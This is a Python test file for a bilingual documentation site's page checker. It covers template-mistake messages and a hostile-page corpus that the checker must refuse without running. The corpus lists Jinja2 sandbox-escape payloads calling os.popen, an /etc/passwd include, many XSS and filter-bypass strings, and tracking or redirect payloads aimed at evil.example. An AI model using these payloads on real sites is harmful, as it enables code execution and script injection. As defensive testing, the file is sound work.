"""Pages are prose and macro calls: the one page renderer, `dxplans check` = the build, and the
hostile-input corpus for pages (issue 17 items 1, 2, 8; issue 13 item 4).

Each kind of problem is put into a tiny project (tests/sites.py); `dxplans check` must name it
once, as file:line, in Japanese and English, and the real MkDocs build of the same project must stop
on it too. Each hostile page must be refused by check with file:line, and neither check nor a build
attempt may run it (a marker file its payload would create stays absent) or publish anything.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
from pathlib import Path

import pytest

from macros.checks import page_html
from macros.checks.page_problem import PageProblem, shown
from macros.checks.pages import PageRenderer, split_front_matter
from macros.cli.main import main

from .conftest import MINI, ROOT
from .sites import PLAN_PAGE, build, make_project

JA = "docs/ja/plans/sample/index.md"
EN = "docs/en/plans/sample/index.md"


def check(project: Path, capsys) -> tuple[int, str]:
    code = main(["--root", str(project), "check"])
    captured = capsys.readouterr()
    return code, captured.err


def problems_of(err: str) -> list[str]:
    """The first line (file:line: Japanese) of every message."""
    lines = err.splitlines()
    return [line for line, after in zip(lines, lines[1:] + [""]) if after.startswith("    English: ")]


@pytest.fixture(scope="module")
def renderer(tmp_path_factory) -> PageRenderer:
    from macros.core.load import load_site

    return PageRenderer(load_site(MINI), MINI, dt.date(2026, 12, 1))


def read(renderer: PageRenderer, text: str, file: str = JA):
    lang, _, rel = file.removeprefix("docs/").partition("/")
    return renderer.read(file, text, lang, rel)


# ------------------------------------------------------------------------------------ the template


@pytest.mark.parametrize("text, line, english", [
    ('{{ kpi_tabel("sample") }}', 1, 'there is no macro "kpi_tabel" — did you mean kpi_table?'),
    ('a\n\n{{ figure("sampel", "respondents") }}', 3, 'there is no plan "sampel" in data/plans/ — write an id '
                                                     "from data/plans/ (closest: sample)"),
    ('{{ figure("sample", "respondent") }}', 1, 'there is no figure "respondent" in data/plans/sample/figures.yml'),
    ('{{ term("sample", "rap") }}', 1, 'there is no term "rap" in data/plans/sample/glossary.yml'),
    ('{{ initiatives("sample", "b") }}', 1, 'there is no group "b" in data/plans/sample/initiatives.yml'),
    ('{{ text_list("sample", "rules") }}', 1, 'there is no list "rules" in data/plans/sample/plan.yml'),
    ('{{ event_date("sample", "polcy") }}', 1, 'there is no timeline event "polcy"'),
    ('{{ figure("sample") }}', 1, "wrong number of arguments for the macro figure (2 needed, 1 given)"),
    ('{{ plan_list("sample") }}', 1, "wrong number of arguments for the macro plan_list (0 needed, 1 given)"),
    ('{{ term("sample", "rpa", txt="x") }}', 1, 'the macro term has no argument "txt"'),
    ('{{ initiatives("sample", "a", level="4") }}', 1, "the argument level of the macro initiatives is a number"),
    ('{{ fy("2025") }}', 1, "the argument year of the macro fy is a number"),
    ('{{ figure("sample", "respondents") }', 1, "the page cannot be read as a template"),
    ('x\n{{ figure("sample", "respondents" }}', 2, "the page cannot be read as a template"),
    ("{{ plan_header }}", 1, "the macro plan_header is written without brackets"),
    ("a\n\n{{ figure('sample', 'respondents')", 3, "unexpected end of template"),
    ("{{ figure(" + "(" * 3000 + "1" + ")" * 3000 + ") }}", 1, "brackets are nested too deeply"),
    ("{% set x=1 %}", 1, "{% set %} is not allowed"),
    ("{#anchor}", 1, "the page cannot be read as a template"),
    ("{{ 7*7 }}", 1, "string assembly and arithmetic"),
    ('{{ "a" }}', 1, "a page may contain only macro calls"),
])
def test_each_template_mistake_is_one_located_message(renderer, text: str, line: int, english: str) -> None:
    page = read(renderer, text)
    assert len(page.problems) == 1, page.problems
    [problem] = page.problems
    assert (problem.file, problem.line) == (JA, line)
    assert english in problem.en, problem.en
    assert problem.ja and "—" in problem.ja and "—" in problem.en


def test_line_numbers_count_the_front_matter(renderer) -> None:
    text = "---\nhide:\n  - toc\n---\n\n# T\n\n{{ kpi_tabel() }}\n"
    [problem] = read(renderer, text).problems
    assert problem.line == 8
    body, meta, offset = split_front_matter(text)
    assert meta == {"hide": ["toc"]} and body.startswith("# T") and offset == 5


def test_front_matter_keys_are_the_sites_own(renderer) -> None:
    [problem] = read(renderer, "---\ntemplate: ../../evil.html\n---\n# T\n").problems
    assert problem.line == 1 and '"template"' in problem.en


def test_a_valid_page_renders_in_the_sandbox_with_its_lines(renderer) -> None:
    page = read(renderer, '# T\n\n{{ figure("sample", "respondents") }}と{{ term("sample", "rpa", text="R") }}\n')
    assert page.problems == []
    rendered = renderer.render(page)
    assert "1,104人" in rendered.markdown and ">R</a>" in rendered.markdown
    assert [(line, by_macro) for line, _, by_macro in rendered.pieces] == [
        (1, False), (3, True), (3, False), (3, True), (3, False)]


def test_a_figure_typed_into_a_text_argument_is_found(renderer) -> None:
    [problem] = read(renderer, '{{ term("sample", "rpa", text="16,401 people") }}\n').problems
    assert "16,401 people" in problem.en and problem.line == 1


def test_no_control_character_is_echoed() -> None:
    assert shown("a\x1b[31mb\u202e") == "a<U+001B>[31mb<U+202E>"
    assert "\x1b" not in str(PageProblem("x.md", 1, shown("\x1b"), shown("\x1b")))


# ------------------------------------------------------------------------------------ the HTML allowlist


@pytest.mark.parametrize("text, line", [
    ("<script>alert(1)</script>", 1),
    ('ok\n\n<img src="x.png"\n     alt="x"\n     onerror="alert(1)">', 5),
    ('<svg onload="alert(1)"></svg>', 1),
    ('<img src="https://evil.example/x.png" alt="">', 1),
    ('<img src="//evil.example/x.png" alt="">', 1),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', 1),
    ('<p style="background:url(https://evil.example/x.png)">x</p>', 1),
    ('<form action="https://evil.example/"><input type="password" name="p"></form>', 1),
    ('<a href=" jav&#x61;script:alert(1)">x</a>', 1),
    ('<a href="java\tscript:alert(1)">x</a>', 1),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', 1),
    ("[x](javascript:alert(1))", 1),
    ("![x](https://evil.example/x.png)", 1),
    ("![x][img]\n\n[img]: https://evil.example/x.png", 1),
    ('# Title {: onclick="alert(1)" }', 1),
    ('<a href="{{ figure("sample", "respondents") }}">x</a>', 1),
    ("<!-- <script>alert(1)</script> -->", 1),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 1),
])
def test_html_outside_the_allowlist_is_refused_where_it_is(renderer, text: str, line: int) -> None:
    problems = read(renderer, text).problems
    assert problems and problems[0].line == line, problems


@pytest.mark.parametrize("text", [
    '<a href="https://www.city.example.lg.jp/">市</a> and [the plan](../other/) and <https://example.org/>',
    '<details><summary>詳しく</summary>\n\n本文\n\n</details>',
    '<img src="../../assets/logo.png" alt="logo"> <abbr title="Robotic Process Automation">RPA</abbr>',
    '| a | b |\n|---|---|\n| <br> | <span class="x">y</span> |',
    "a < b and b > a, 3 <= 4",
])
def test_ordinary_prose_and_html_pass(renderer, text: str) -> None:
    assert read(renderer, text).problems == []


def test_the_rendered_page_is_held_to_the_same_rules() -> None:
    [problem] = page_html.check_rendered('<p>x</p><p><a href="javascript:alert(1)">y</a></p>', JA, 4)
    assert problem.line == 4
    assert page_html.check_rendered('<span class="dx-fig">1,104人</span><!--dx-stash ja/x.md 0-->', JA) == []


# ------------------------------------------------------------------------------------ check = the build


def project_with(tmp_path: Path, pages: dict[str, str | None] | None = None, data_edit=None) -> Path:
    project = make_project(tmp_path / "project")
    # the fixture keeps one printed figure that disagrees (for the renderer tests); here it agrees
    tables = project / "data/plans/sample/tables.yml"
    tables.write_text(tables.read_text(encoding="utf-8").replace("printed: {rate: 30.0}", "printed: {rate: 33.3}"),
                      encoding="utf-8")
    for rel, text in (pages or {}).items():
        path = project / rel
        if text is None:
            path.unlink()
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
    if data_edit:
        data_edit(project)
    return project


def _glossary_number_gap(project: Path) -> None:
    path = project / "data/plans/sample/glossary.yml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("definition: {ja: 定型作業を自動化する技術,", "definition: {ja: 3種の定型作業を自動化する技術,"),
                    encoding="utf-8")


KINDS = {
    "unknown-macro": ({JA: PLAN_PAGE["ja"] + '\n{{ kpi_tabel("sample") }}\n'},
                      f'{JA}:5: 「kpi_tabel」というマクロはありません — kpi_table のことなら、そう書いてください', None),
    "unknown-plan": ({EN: PLAN_PAGE["en"] + '\n{{ glossary("sampel") }}\n'},
                     f"{EN}:5: 計画の id「sampel」は data/plans/ にありません", None),
    "unknown-figure": ({JA: PLAN_PAGE["ja"] + '\n{{ figure("sample", "respondent") }}\n'},
                       f"{JA}:5: 数値の id「respondent」は data/plans/sample/figures.yml にありません", None),
    "unknown-term": ({JA: PLAN_PAGE["ja"] + '\n{{ term("sample", "rap") }}\n'},
                     f"{JA}:5: 用語の id「rap」は data/plans/sample/glossary.yml にありません", None),
    "unknown-group": ({JA: PLAN_PAGE["ja"] + '\n{{ initiatives("sample", "z") }}\n'},
                      f"{JA}:5: 取組のまとまりの id「z」は data/plans/sample/initiatives.yml にありません", None),
    "wrong-argument-count": ({JA: PLAN_PAGE["ja"] + '\n{{ figure("sample") }}\n'},
                             f"{JA}:5: マクロ figure の引数の数が違います（必要 2 個、書かれているのは 1 個）", None),
    "jinja-syntax-error": ({JA: PLAN_PAGE["ja"] + '\n{{ figure("sample", "respondents") }\n'},
                           f"{JA}:5: ページをテンプレートとして読めません", None),
    "no-english-twin": ({"docs/ja/about.md": "# について\n"},
                        "docs/ja/about.md:1: この日本語のページには英語版 docs/en/about.md がありません", None),
    "no-japanese-twin": ({"docs/en/about.md": "# About\n"},
                         "docs/en/about.md:1: この英語のページには日本語版 docs/ja/about.md がありません", None),
    "page-outside-the-language-folders": ({"docs/about.md": "# About\n"},
                                          "docs/about.md:1: ページは docs/ja/ か docs/en/ の下に置きます", None),
    "figure-typed-into-page": ({EN: PLAN_PAGE["en"] + "\nThe city has 16,401 friends.\n"},
                               f'{EN}:5: 数値「16,401」がページに直接書かれています', None),
    "numbers-differ-in-pages": ({JA: PLAN_PAGE["ja"] + "\n令和3年度から始めました。\n"},
                                f"{JA}:5: 日本語のページと英語版（{EN}）で数字が違います（日本語だけ: 2021、英語だけ: なし）",
                                None),
    "numbers-differ-in-data": ({JA: PLAN_PAGE["ja"] + '\n{{ glossary("sample") }}\n',
                                EN: PLAN_PAGE["en"] + '\n{{ glossary("sample") }}\n'},
                               "data/plans/sample/glossary.yml:7: terms 1つ目 › definition › en: 日本語の文と英語の文で数が違います"
                               "（日本語だけにある数：3）",
                               _glossary_number_gap),
    "script-in-page": ({JA: PLAN_PAGE["ja"] + "\n<script>alert(1)</script>\n"},
                       f"{JA}:5: <script>（スクリプト）はページに書けません", None),
}


@pytest.mark.parametrize("kind", KINDS)
def test_check_reports_each_kind_once_with_file_and_line(kind: str, tmp_path: Path, capsys) -> None:
    pages, expected, edit = KINDS[kind]
    project = project_with(tmp_path, pages, edit)
    code, err = check(project, capsys)
    assert code == 1
    assert problems_of(err) == [problems_of(err)[0]] and problems_of(err)[0].startswith(expected), err
    assert "Traceback" not in err and "1 problem(s) found" in err


@pytest.mark.build
@pytest.mark.parametrize("kind", KINDS)
def test_the_build_stops_on_the_same_problem(kind: str, tmp_path: Path) -> None:
    pages, expected, edit = KINDS[kind]
    project = project_with(tmp_path, pages, edit)
    result = build(project)
    assert result.returncode != 0
    if kind.startswith("numbers-differ"):   # the build compares the built pages (steps.compare_languages)
        assert "The Japanese and English pages show different numbers" in result.stderr, result.stderr[-2000:]
    else:
        assert expected in result.stderr, result.stderr[-3000:]
        assert not (project / "site" / "index.html").exists()


def test_check_passes_on_the_tiny_project(tmp_path: Path, capsys) -> None:
    code, err = check(project_with(tmp_path), capsys)
    assert code == 0, err


def test_check_passes_on_the_real_site(capsys) -> None:
    code, err = check(ROOT, capsys)
    assert code == 0, err


def test_every_mistake_is_reported_in_one_run(tmp_path: Path, capsys) -> None:
    page = PLAN_PAGE["ja"] + ('\n{{ kpi_tabel("sample") }}\n\n{% set x = 1 %}\n\n{{ "<scr" ~ "ipt>" }}\n\n'
                              '<svg onload="x"></svg>\n')
    code, err = check(project_with(tmp_path, {JA: page}), capsys)
    assert [p.split(": ")[0] for p in problems_of(err)] == [f"{JA}:{n}" for n in (5, 7, 9, 11)], err


# ------------------------------------------------------------------------------------ hostile pages

MARK = "__MARKER__"
HOSTILE = {
    # reaching Python from the template
    "cycler-globals": "{{ cycler.__init__.__globals__.os.popen('touch __MARKER__').read() }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('touch __MARKER__').read() }}",
    "self-context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('touch __MARKER__') }}",
    "macro-globals": "{{ figure.__globals__['__builtins__']['__import__']('os').system('touch __MARKER__') }}",
    "argument-reaches-python": "{{ figure(cycler.__init__.__globals__.os.popen('touch __MARKER__').read(), 'x') }}",
    "keyword-reaches-python": "{{ term('sample', 'rpa', text=joiner.__init__.__globals__.os.popen('touch __MARKER__')) }}",
    "attr-filter": "{{ ()|attr('__class__')|attr('__base__') }}",
    "set-block": "{% set x = cycler.__init__.__globals__.os.popen('touch __MARKER__').read() %}",
    "for-block": "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "if-block": "{% if cycler.__init__.__globals__.os.popen('touch __MARKER__') %}x{% endif %}",
    "call-block": "{% call figure('sample', 'respondents') %}x{% endcall %}",
    "macro-block": "{% macro m() %}{{ cycler }}{% endmacro %}",
    "filter-block": "{% filter upper %}x{% endfilter %}",
    "config": "{{ config }}",
    "config-items": "{{ config.items() }}",
    "range-class": "{{ range.__class__ }}",
    "namespace": "{{ namespace(a=1) }}",
    # assembling markup
    "assembled-script": "{{ '<scr' ~ 'ipt src=\"/assets/x.js\"></scr' ~ 'ipt>' }}",
    "plus-assembled-script": "{{ '<scr' + 'ipt>alert(1)</scr' + 'ipt>' }}",
    "format-assembled": "{{ '<%s>' % 'script' }}",
    "assembled-meta-refresh": "{{ '<me' ~ 'ta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">' }}",
    "literal-meta-refresh": "{{ '<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">' }}",
    "safe-filter": "{{ '<script>alert(1)</script>'|safe }}",
    "macro-output-filtered": "{{ figure('sample', 'respondents')|replace('1', '<script>') }}",
    "join-assembly": "{{ ['<scr', 'ipt>']|join }}",
    # taking in files
    "include": "{% include '../../../etc/passwd' %}",
    "include-template": "{% include 'partials/csp.html' %}",
    "import": "{% import 'main.html' as m %}",
    "from-import": "{% from 'x.html' import y %}",
    "extends": "{% extends 'base.html' %}",
    # hiding markup
    "raw-hides-script": "{% raw %}<script>alert(1)</script>{% endraw %}",
    "raw-hides-template": "{% raw %}{{ cycler }}{% endraw %}",
    "comment-hides-text": "{# <script>alert(1)</script> #}",
    "whitespace-control": "{{- figure('sample', 'respondents') -}}",
    # HTML
    "script": "<script>window.__pwned = 1</script>",
    "script-upper-case": "<SCRIPT SRC=/assets/x.js></SCRIPT>",
    "style": "<style>body { background: url(https://evil.example/x.png) }</style>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg-onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "math": "<math><mi>x</mi></math>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form-with-password": '<form action="https://evil.example/"><input type="password" name="p"><button>送信</button></form>',
    "textarea": "<textarea>x</textarea>",
    "template-tag": "<template><script>alert(1)</script></template>",
    "on-handler": '<p onclick="alert(1)">x</p>',
    "on-handler-next-line": '<img src="x.png"\n     alt="x"\n     onerror="alert(1)">',
    "on-handler-upper-case": '<p ONMOUSEOVER="alert(1)">x</p>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "style-attribute": '<p style="background:url(https://evil.example/x.png)">x</p>',
    "external-image": '<img src="https://evil.example/track.png" alt="">',
    "protocol-relative-image": '<img src="//evil.example/track.png" alt="">',
    "markdown-external-image": "![x](https://evil.example/track.png)",
    "reference-external-image": "![x][t]\n\n[t]: https://evil.example/track.png",
    "srcset": '<img src="a.png" srcset="https://evil.example/x.png 2x" alt="">',
    "video": '<video src="https://evil.example/x.mp4"></video>',
    "javascript-link": "[x](javascript:alert(1))",
    "javascript-html-link": '<a href="javascript:alert(1)">x</a>',
    "javascript-entity-link": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript-tab-link": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript-reference-link": "[x][j]\n\n[j]: javascript:alert(1)",
    "data-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">x</a>',
    "attr-list-handler": '## 見出し {: onclick="alert(1)" }',
    "attr-list-style": '## 見出し {: style="background:url(https://evil.example/x.png)" }',
    "macro-inside-tag": "<a href=\"{{ figure('sample', 'respondents') }}\">x</a>",
    "comment-hides-markup": "<!-- <script>alert(1)</script> -->",
    "fake-block-placeholder": "<!--dx-stash ja/plans/sample/index.md 0-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "front-matter-template": "---\ntemplate: ../../../../etc/passwd\n---\n\nx",
}


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> tuple[Path, Path, dict[str, int], tuple[int, str]]:
    """One tiny project with each hostile page at docs/ja/hostile/<name>.md (and a plain English twin);
    returns the project, the folder markers would be created in, the line of each payload, and what
    `dxplans check` said of it (exit code, error output)."""
    base = tmp_path_factory.mktemp("hostile")
    markers = base / "markers"
    markers.mkdir()
    pages, lines = {}, {}
    for name, payload in HOSTILE.items():
        payload = payload.replace(MARK, str(markers / name))
        head = "" if payload.startswith("---") else "# 見出し\n\n"
        pages[f"ja/hostile/{name}.md"] = head + payload + "\n"
        pages[f"en/hostile/{name}.md"] = "# Heading\n"
        lines[name] = 1 if payload.startswith("---") else 3 + _line_of_attack(payload)
    project = make_project(base / "project", pages=pages)
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["--root", str(project), "check"])
    return project, markers, lines, (code, err.getvalue())


def _line_of_attack(payload: str) -> int:
    """Lines into the payload where the refused part starts (an on…= attribute on a later line)."""
    for number, line in enumerate(payload.splitlines()):
        if "onerror" in line or line.startswith("[j]:"):
            return number
    return 0


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_page_is_refused_by_check_with_file_and_line(name: str, hostile_project) -> None:
    project, markers, lines, (code, err) = hostile_project
    assert code == 1
    file = f"docs/ja/hostile/{name}.md"
    located = [p for p in problems_of(err) if p.startswith(f"{file}:")]
    assert located, err
    assert located[0].startswith(f"{file}:{lines[name]}: "), located
    assert not any(markers.iterdir()), "a payload ran"
    assert "\x1b" not in err


@pytest.mark.build
def test_no_hostile_page_runs_or_is_published_by_a_build(hostile_project) -> None:
    project, markers, lines, _ = hostile_project
    result = build(project)
    assert result.returncode != 0
    for name in HOSTILE:
        assert f"docs/ja/hostile/{name}.md:{lines[name]}: " in result.stderr, name
    assert not any(markers.iterdir()), "a payload ran"
    site = project / "site"
    assert not site.exists() or not any(site.rglob("*.html")), "something was published"


@pytest.mark.build
def test_each_hostile_page_alone_stops_the_build(tmp_path: Path) -> None:
    """Alone, the worst ones too: the build stops before it renders, and leaves nothing behind."""
    for name in ("cycler-globals", "assembled-script", "raw-hides-script", "on-handler-next-line"):
        marker = tmp_path / f"{name}.marker"
        project = make_project(tmp_path / name, pages={
            "ja/plans/sample/index.md": PLAN_PAGE["ja"] + "\n" + HOSTILE[name].replace(MARK, str(marker)) + "\n"})
        result = build(project)
        line = 5 + _line_of_attack(HOSTILE[name])
        assert result.returncode != 0 and f"{JA}:{line}: " in result.stderr, result.stderr[-2000:]
        assert not marker.exists()
        assert not (project / "site").exists() or not any((project / "site").rglob("*.html"))
